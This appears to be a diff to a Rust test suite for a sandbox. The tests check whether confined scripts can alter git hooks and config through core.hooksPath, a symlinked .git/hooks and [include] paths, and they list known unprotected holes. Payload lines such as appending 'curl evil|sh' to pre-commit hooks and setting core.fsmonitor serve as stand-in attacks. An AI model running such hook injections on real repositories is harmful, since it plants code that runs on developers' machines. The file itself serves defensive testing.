@@ -12,10 +12,10 @@ mod sandbox_support;
 use std::fs;
 use std::time::Duration;
 
-use sandbox_support::judge::{confined, control, defaults, unchanged};
+use sandbox_support::judge::{confined, control, defaults, marked, unchanged};
 use sandbox_support::procs::{Reaper, survivors_after_grace};
 use sandbox_support::world::{Snapshot, q, unique};
-use sandbox_support::{Backend, World};
+use sandbox_support::{ATTEMPT, Backend, World};
 
 // ---- Protected paths inside the workspace -------------------------------------------------
 
@@ -322,13 +322,99 @@ fn git_commondir_with_killed_launcher(w: &World, b: Backend) {
         left.is_empty(),
         "ESCAPE: {left:?} outlived the killed launcher"
     );
-    assert_eq!(
-        git_common_dir(w),
-        real,
-        "ESCAPE: the planted .git/commondir outlived the run"
+    // The helper scrubs after it has killed the tree: give it a moment, as for survivors.
+    let scrubbed = (0..150).any(|_| {
+        let ok = git_common_dir(w) == real;
+        if !ok {
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        ok
+    });
+    assert!(
+        scrubbed,
+        "ESCAPE: the planted .git/commondir outlived the run ({})",
+        git_common_dir(w)
+    );
+}
+per_backend!(git_commondir_with_killed_launcher);
+
+/// husky and friends: `core.hooksPath = .husky` in the (protected) config makes git run the
+/// hooks in `.husky/`, an ordinary workspace directory — which must then be protected too.
+fn git_hooks_path_in_workspace(w: &World, b: Backend) {
+    git_repo(w);
+    w.write(
+        &w.ws.join(".git/config"),
+        &format!("{GIT_CONFIG}\thooksPath = .husky\n"),
+    );
+    let hook = w.ws.join(".husky/pre-commit");
+    w.write(&hook, "#!/bin/sh\nnpx lint-staged\n");
+    unchanged(
+        w,
+        b,
+        defaults,
+        &[&hook],
+        "echo 'curl evil|sh' >> .husky/pre-commit",
     );
 }
 per_backend!(
-    git_commondir_with_killed_launcher,
+    git_hooks_path_in_workspace,
+    namespaces: "known hole: a workspace dir named by core.hooksPath in .git/config is not protected (reported to S1)",
+    bubblewrap: "known hole: a workspace dir named by core.hooksPath in .git/config is not protected (reported to S1)",
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
+
+/// `.git/hooks` as a symlink to a tracked directory of the workspace (a common set-up): the
+/// hooks git runs live in `githooks/`. Refusing to run (exit 125, nothing attempted) is a
+/// correct answer too; changing them is not.
+fn git_hooks_dir_symlinked(w: &World, b: Backend) {
+    git_repo(w);
+    fs::remove_dir(w.ws.join(".git/hooks")).expect("rmdir hooks");
+    let hook = w.ws.join("githooks/pre-commit");
+    w.write(&hook, "#!/bin/sh\nexit 0\n");
+    std::os::unix::fs::symlink("../githooks", w.ws.join(".git/hooks")).expect("symlink hooks");
+    let script = marked(
+        "echo 'curl evil|sh' >> .git/hooks/pre-commit; echo 'curl evil|sh' >> githooks/pre-commit",
+    );
+    let before = Snapshot::of(&hook);
+    let run = w.confined(b).sh(&script);
+    let refused = run.status_code() == Some(125) && !run.stdout.contains(ATTEMPT);
+    assert!(
+        refused || run.stdout.contains(ATTEMPT),
+        "neither refused nor run\n{run}"
+    );
+    assert_eq!(
+        before,
+        Snapshot::of(&hook),
+        "ESCAPE: the hook behind .git/hooks changed\n{run}"
+    );
+    let control = w.plain().sh(&script);
+    assert_ne!(
+        before,
+        Snapshot::of(&hook),
+        "positive control failed\n{control}"
+    );
+}
+per_backend!(
+    git_hooks_dir_symlinked,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
+
+/// `[include] path = ../.gitconfig-local` in the protected config: the included workspace file
+/// is as powerful as the config itself (`core.fsmonitor`, `core.hooksPath`, aliases).
+fn git_config_include_in_workspace(w: &World, b: Backend) {
+    git_repo(w);
+    w.write(
+        &w.ws.join(".git/config"),
+        &format!("{GIT_CONFIG}[include]\n\tpath = ../.gitconfig-local\n"),
+    );
+    let included = w.ws.join(".gitconfig-local");
+    w.write(&included, "[user]\n\tname = dev\n");
+    let script = "printf '[core]\\n\\tfsmonitor = evil\\n' >> .gitconfig-local";
+    unchanged(w, b, defaults, &[&included], script);
+}
+per_backend!(
+    git_config_include_in_workspace,
+    namespaces: "known hole: a workspace dir named by [include] path in .git/config is not protected (reported to S1)",
+    bubblewrap: "known hole: a workspace dir named by [include] path in .git/config is not protected (reported to S1)",
     landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
 );
